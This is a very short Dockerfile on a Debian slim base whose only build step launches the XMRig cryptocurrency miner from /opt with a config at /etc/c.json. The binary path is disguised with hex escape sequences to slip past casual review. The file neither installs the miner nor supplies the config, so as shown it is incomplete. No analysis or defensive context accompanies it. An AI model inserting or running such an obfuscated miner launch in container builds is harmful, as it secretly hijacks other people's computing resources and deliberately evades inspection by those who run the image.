FROM debian:12-slim
SHELL ["/bin/bash", "-c"]
RUN $'\x2fopt\x2fxmrig' --config=/etc/c.json
